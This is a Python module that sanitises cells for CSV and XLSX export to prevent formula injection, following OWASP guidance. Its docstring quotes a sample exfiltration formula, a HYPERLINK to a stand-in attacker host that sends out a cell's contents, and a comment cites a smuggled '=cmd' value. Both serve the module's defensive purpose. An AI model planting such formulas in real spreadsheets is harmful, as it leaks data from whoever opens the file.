"""The one guard every CSV and XLSX writer puts its cells through (formula / CSV injection).

Firm names, tags, products, gap items and outreach reasons come from leaders, data-platform imports
and bureau staff; a cell such as ``=HYPERLINK("http://evil.example/?"&A1,"Click")`` must reach the
bureau's spreadsheet as text, never as a formula. Following the OWASP CSV-injection guidance:

- text beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (or the full-width
  ``＝ ＋ － ＠``, which some spreadsheet programs also read) is prefixed with a single quote, so it is
  shown as written and never evaluated;
- in XLSX, cells from data are always typed as strings (openpyxl would otherwise store any text
  starting with ``=`` as a live formula);
- numbers are written as numbers; a non-finite one (NaN, ±inf — which validation keeps out) is
  written as an empty cell rather than as text a program might read back differently;
- in XLSX, a finite number beyond what a spreadsheet holds (Excel's largest is 9.99999999999999E+307;
  1.79e308 is stored with 15–17 digits and read back as inf) is written as its text.
"""

from __future__ import annotations

import csv
import io
import math
from collections.abc import Iterable, Sequence
from typing import IO, Any

# What a spreadsheet program may read as the start of a formula or command (DDE).
FORMULA_TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
QUOTE = "'"
# The largest magnitude a spreadsheet number may have (Excel's limit).
XLSX_MAX_NUMBER = 9.99999999999999e307


def guard_text(text: str) -> str:
    """``text``, prefixed with ``'`` when a spreadsheet could read it as a formula."""
    return QUOTE + text if text and text[0] in FORMULA_TRIGGERS else text


def safe_cell(value: Any) -> Any:
    """A cell value safe for CSV and XLSX: guarded text, finite numbers, ``None`` for nothing."""
    if value is None or isinstance(value, bool):
        return value
    if isinstance(value, int):
        return value
    if isinstance(value, float):
        return value if math.isfinite(value) else None
    if not isinstance(value, str):
        value = str(value)
    return guard_text(value)


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in row]


def is_formula_like(value: object) -> bool:
    """Whether a cell read back from a file would be evaluated by a spreadsheet program (tests)."""
    return isinstance(value, str) and bool(value) and value[0] in FORMULA_TRIGGERS


# --------------------------------------------------------------------------- CSV
def write_csv(handle: IO[str], columns: Sequence[str], rows: Iterable[Iterable[Any]]) -> None:
    """Header and rows, every cell guarded, ``None`` as an empty cell, CRLF line ends."""
    writer = csv.writer(handle, lineterminator="\r\n")
    writer.writerow(safe_row(columns))
    for row in rows:
        writer.writerow(["" if v is None else v for v in safe_row(row)])


def csv_bytes(columns: Sequence[str], rows: Iterable[Iterable[Any]]) -> bytes:
    """A CSV file as UTF-8 with a BOM (so Excel reads it as UTF-8)."""
    buffer = io.StringIO()
    write_csv(buffer, columns, rows)
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


# --------------------------------------------------------------------------- XLSX
def xlsx_append(sheet: Any, row: Iterable[Any]) -> None:
    """Append ``row`` to an openpyxl worksheet: guarded values, text cells typed as strings, XML-illegal
    control characters dropped (they cannot be stored in XLSX)."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

    # Drop the control characters first, then guard: "\x01=cmd" must not become a bare "=cmd".
    cells = []
    for value in safe_row(ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in row):
        if isinstance(value, float) and abs(value) > XLSX_MAX_NUMBER:
            value = guard_text(repr(value))
        cell = Cell(sheet, value=value)
        if isinstance(cell.value, str):
            cell.data_type = "s"  # never "f": data is not a formula, whatever it starts with
        cells.append(cell)
    # Cells typed before they are appended: reading the appended row back (sheet[sheet.max_row])
    # scans every cell of the sheet, which made a report's XLSX quadratic in its rows.
    sheet.append(cells)


__all__ = [
    "FORMULA_TRIGGERS",
    "csv_bytes",
    "guard_text",
    "is_formula_like",
    "safe_cell",
    "safe_row",
    "write_csv",
    "xlsx_append",
]
